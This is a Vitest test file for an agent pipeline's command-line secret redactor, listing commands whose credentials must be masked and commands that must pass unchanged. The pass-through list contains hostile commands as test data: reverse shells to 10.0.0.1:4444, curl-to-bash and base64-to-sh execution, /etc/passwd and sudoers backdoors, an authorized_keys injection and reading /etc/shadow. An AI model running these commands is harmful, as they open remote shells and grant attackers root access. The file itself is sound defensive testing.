import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../../../agent/pipeline/redaction/redactor.js';
import { argumentsOf, masked, unmarked } from '../../../support/marked.js';

const redactor = createRedactor([]);

/** In `«»` what has to be masked; all else stays as it is. */
const secrets = `
tailscale up --authkey «tskey-SECRET»
curl 'https://f.example.net/api/x?code=«aBcD1234efGH5678==»'
curl 'http://h/weather?q=a&appid=«0123456789abcdef0123456789abcdef»'
curl --data-urlencode 'password=«two words»' http://h
curl -d 'user=op&password=«two words»&x=y' http://h
nmcli c add con-name x wifi-sec.key-mgmt wpa-psk wifi-sec.psk «SECRET»
unknown-tool -h h -u op -p «SECRET» status
unknown-tool -U op -P «SECRET»
tailscale up --auth-key «tskey-SECRET»
tailscale up --authkey=«tskey-SECRET»
foo --passcode «SECRET»
foo --bearer «SECRET»
net rpc -U op%«SECRET»
smbclient -L h --user=op%«SECRET»
sh -c 'echo "«SECRET»" | sudo -S reboot'
sh -c 'echo op:«SECRET» | chpasswd'
sh -c 'printf "%s\\n" «SECRET» | sudo -S -p "" reboot'
sh -c 'echo -e "«SECRET»\\n«SECRET»" | passwd root'
sh -c '{ echo «SECRET»; echo «SECRET»; } | smbpasswd -s -a op'
sh -c '(sleep 1; echo «SECRET») | sudo -S id && ls /root'
sh -c 'chpasswd <<< op:«SECRET»'
sh -c 'sudo -S id <<< "«SECRET»"; ls -p x'
sh -c 'echo «SECRET» | tr -d x | cryptsetup luksOpen /dev/sda1 d -'
sh -c 'echo «SECRET» | ssh op@h sudo -S reboot'
ssh h 'echo «SECRET» | sudo -S reboot'
ssh h echo «SECRET» '|' sudo -S reboot
sh -c 'echo «SECRET» > /run/secrets/db_password'
sh -c 'echo «SECRET» | sudo tee /etc/wireguard/private.key'
sh -c 'x=$(mysql -p«SECRET» -e y) && echo $x'
sh -c 'mysql -h $(hostname) -p«SECRET» shop'
sh -c 'bash -c "PGPASSWORD=«SECRET» psql -c y" && ls'
sh -c 'sudo sh -c "mysql -p«SECRET» -e \\"select 1\\""'
env PGPASSWORD=«SECRET» psql -h h
foo --apiKey «SECRET»
foo --authToken=«SECRET»
foo -storepass «SECRET»
foo /password:«SECRET»
java -Dapp.password=«SECRET» -jar a.jar
helm install a b --set db.password=«SECRET»,db.user=op
mount -t cifs -o username=op,password=«SECRET»,uid=3 //h/s /mnt
foo user=a,password=«b»
foo '{"password":"«x»","user":"op"}'
foo '{password:«x»,user:op}'
foo '<user>op</user><password>«x»</password>'
foo 'https://h/a?token=«x»&b=c'
curl -d 'user=op&password=«x»&go=1' h
curl -d 'password=«x»&go=1' h
curl -H 'Authorization: Basic «b3A6cHc=»' h
curl -H 'Authorization: token «SECRET»' h
curl -H 'X-Api-Key: «SECRET»' h
curl -H 'Cookie: «sid=SECRET»' h
curl --proxy-user op:«SECRET» h
curl -u «sk_live_0123456789abcdef:» h
curl -u «0123456789abcdef0123:SECRET» h
curl -u «op:» h
curl -u «op:x-oauth-basic» h
curl --user=op:«SECRET» h
curl -u :«SECRET» h
ubus call uci set '{"config":"wireless","values":{"ssid":"net","key":"«SECRET»","key1":"«abcde»"}}'
ubus call session list '{"ubus_rpc_session":"«0123456789abcdef»"}'
tcapi set Account_Entry0 web_passwd «SECRET»
rgdb -s /wireless/wpa/wepkey «SECRET»
sendcmd 1 DB set DevAuthInfo 0 Pass «SECRET»
nvram set wl0_wpa_psk=«SECRET»
nvram set WPAPSK1=«SECRET»
flash set WLAN0_WPA_PSK «SECRET»
ffmpeg -i x -f flv rtmp://a.rtmp.youtube.com/live2/«abcd-1234-efgh-5678»
sh -c 'ffmpeg -i x -f flv rtmps://h:443/app/«SECRET»; ls'
wget --header 'Authorization: Bearer «SECRET»' h
chat 'AT+CPIN="«1234»"' OK
sh -c 'echo AT+CPIN=\\"«1234»\\" > /dev/ttyUSB2'
mmcli -m 0 --command='AT+CLCK="SC",1,"«1234»"'
foo 'AT+CPWD="SC","«1234»","«5678»"'
foo 'AT+QICSGP=1,1,"apn","user","«pw»",1'
foo 'AT+CGAUTH=1,1,"«user»","«pass»"'
foo 'AT^SICS=0,"passwd","«x»"'
foo 'AT+CWJAP="net","«pw»"'
qmicli -d /dev/cdc-wdm0 --uim-verify-pin=«PIN1,1234»
mmcli -m 0 --simple-connect=apn=x,user=u,password=«p»
iwctl --passphrase «SECRET» station wlan0 connect net
git clone https://«ghp_0123456789abcdefABCDEF»@github.com/a/b
ffmpeg -rtsp_transport tcp -i rtsp://admin:«pw»@10.0.0.4:554/s out.mp4
foo redis://:«pw»@h:6379/0
foo jdbc:postgresql://h/db?user=op&password=«pw»
foo mqtt://op:«p%40w»@h
rsync -a op:«SECRET»@backup.example.com::m /x
foo «glpat-0123456789abcdefABCD»
foo «AKIAIOSFODNN7EXAMPLE»
wg set wg0 listen-port 51820 peer x= preshared-key /etc/psk
foo PrivateKey=«aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29=»
mysql -e 'create user a identified by "«x»"'
expect -c 'spawn ssh h; expect "assword:"; send "«SECRET»\\r"; interact'
npm config set //packages.example.org/:_authToken «SECRET»
az iot hub show --login HostName=h;SharedAccessKeyName=n;SharedAccessKey=«k=»
kubectl create secret generic a --from-literal=password=«SECRET»
docker run -d -e MYSQL_ROOT_PASSWORD=«SECRET» --name mysql -p3306:3306 mysql:8
sh -c 'zip -rP «SECRET» x.zip f && composer config http-basic.r.example op «SECRET»'
sh -c 'yes «SECRET» | passwd root'
wpa_cli -i wlan0 set_network 0 psk "«SECRET»"
impacket-psexec DOM/op:«SECRET»@10.0.0.3
fw_setenv wifi_psk «SECRET»
vault write auth/approle/login role_id=r secret_id=«SECRET»
sh -c 'echo "machine h login op password «SECRET»" > ~/.netrc'
ansible-playbook -e 'x=y ansible_password=«SECRET»' a.yml
`;

const harmless = `
docker run -v /etc/secrets:/run/secrets:ro -p 80:80 nginx
mount -o credentials=/etc/cifs.cred //h/s /mnt
unknown-tool -u op -p 8080
curl 'http://h/x?code=200&appid=weather'
uci set openvpn.x.key=/etc/openvpn/client.key
openvpn --http-proxy-user-pass /etc/proxy --config c
unknown-tool -u nobody -p /run/tool.pid
unknown-tool -u op -p 80:80
journalctl -u ssh -p warning
curl -E f.pem https://h
ipmitool user set name 2 op
foo --key-file /etc/a.key --keyboard us --pin-memory --passive --compass x --author op
foo --token-ttl 30 --max-tokens 512 --exit-code 1 --code-coverage --tokenizer bpe
foo --tls-key /etc/ssl/private/a.key --private-key ~/.ssh/id_ed25519
foo --gpio-pin 17 --pin 4 --pass 2 --auth basic --sort-key name --public-key abc
foo key=up PWD=/root KEYMAP=de AUTH_TYPE=basic
ls secrets/
grep password /etc/ssh/sshd_config
grep -rni 'password=' /var/www
passwd root
man pass
apt-key list
apt install zip mysql-client
cat /etc/shadow /etc/passwd
ssh -i ~/.ssh/id_rsa -p 22 host uptime
ssh -o PasswordAuthentication=no host 'ls -p /tmp'
git commit -m 'token refresh'
git commit -m 'add basic support for bearer authentication'
openssl genrsa -out private.key 2048
openssl req -new -key /etc/a.key -passin file:/etc/pw
systemctl status keyboard-setup.service
systemctl restart mysql
ps -eo pid,comm
sh -c 'echo hello | grep x'
sh -c 'echo $PASSWORD | sudo -S id'
sh -c 'TOKEN=$(cat /run/token) curl -H "Authorization: Bearer $TOKEN" h'
sh -c 'PASSWORD= make -p all'
sh -c 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'
sh -c 'echo x:0:0::/root:/bin/sh >> /etc/passwd'
sh -c 'curl http://10.0.0.1/a.sh | bash -p'
sh -c 'echo Y3VybCBo | base64 -d | sh'
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
nc -e /bin/sh 10.0.0.1 4444
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444))'
find / -perm -4000 -type f -exec ls -p {} ;
crontab -l
docker run -p 80:80 --name mysql nginx:latest
docker pull registry.example.com/token:latest
docker pull nginx@sha256:0123456789abcdef0123456789abcdef
npm install left-pad@1.3.0
scp a.txt op@host:/tmp/b
rsync -a /a op@host:/b
curl -u op http://h/
curl -u : --negotiate http://h/
gcloud secrets versions access latest --secret db
ffmpeg -i rtmp://10.0.0.1/live/stream out.mp4
tcapi get WLan_Entry0 WPAPSK
nvram set wl0_key=1
ip macsec show
smbclient -U op //h/s
useradd -m -s /bin/bash op
aws s3api get-object --bucket b --key path/to/object f
ansible-playbook --ask-become-pass site.yml
mysql -u root -p shop
AT+CPIN?
loadkeys us
ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519
wg set wg0 private-key /etc/wireguard/private.key
ffmpeg -i a -pass 1 b
sort --key=2,2n f
kubeadm join h:6443 --discovery-token-ca-cert-hash sha256:0123abc
openvpn --config c --auth-user-pass /etc/openvpn/auth.txt
apt-key adv --recv-keys 0xABCDEF12
sh -c 'echo "op ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/op'
vault kv get secret/app
kubectl get secret token -o yaml
grep -E 'password|token' -r /opt
`;

const lines = (text: string): string[] => text.trim().split('\n');

describe('command lines with secrets', () => {
  it.each(lines(secrets))('%s', (line) => {
    const argv = argumentsOf(unmarked(line));
    expect(redactor.redact(argv).join(' ')).toBe(argumentsOf(masked(line)).join(' '));
  });
});

describe('here-documents', () => {
  it.each([
    ['cat <<EOF | chpasswd\nop:«a»\nroot:«b»\nEOF\nls -p'],
    ['chpasswd <<-EOF\n\top:«a»\n\tEOF\nid'],
    ['mysql -p«x» <<EOF\ncreate user op identified by "«a»";\nEOF'],
    ['cat > /etc/ppp/chap-secrets <<EOF\n«op * a *»\nEOF'],
  ])('%j', (line) => {
    expect(redactor.redact(['sh', '-c', unmarked(line)])[2]).toBe(masked(line));
  });
});

describe('command lines without', () => {
  it.each(lines(harmless))('%s', (line) => {
    const argv = argumentsOf(line);
    expect(redactor.redact(argv)).toEqual(argv);
    if (!line.includes("'")) expect(redactor.redact(['sh', '-c', line])[2]).toBe(line);
  });
});
